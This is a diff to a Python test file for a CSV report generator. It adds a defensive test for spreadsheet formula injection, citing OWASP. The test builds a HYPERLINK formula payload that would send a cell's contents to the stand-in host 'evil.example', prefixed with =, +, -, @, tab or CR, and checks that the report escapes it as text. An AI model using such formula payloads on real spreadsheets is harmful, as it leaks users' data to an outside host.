@@ -75,7 +75,20 @@ def test_csv_has_a_header_and_one_row_per_group(content):
     rows = tasks.stale_groups(str(content), 6, TODAY)
     parsed = list(csv.DictReader(io.StringIO(tasks.stale_report(rows, "csv"))))
     assert [r["file"] for r in parsed] == [r["file"] for r in rows]
-    assert parsed[0]["phone"] == "+97245550101"
+    assert parsed[0]["phone"] == "'+97245550101"  # kept as text: a spreadsheet would drop the + (or run it)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_start_a_formula(start):
+    """OWASP CSV injection: a group name such as =HYPERLINK(...) is shown as text, not run."""
+    payload = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    row = dict.fromkeys(
+        ["verified", "months", "file", "status", "contact", "phone", "whatsapp", "email", "website"], "x"
+    )
+    row["group"] = payload
+    (parsed,) = csv.DictReader(io.StringIO(tasks.stale_report([row], "csv")))
+    assert parsed["group"] == "'" + payload
+    assert parsed["file"] == "x"
 
 
 def test_stale_task_prints_the_report(content, monkeypatch, capsys):
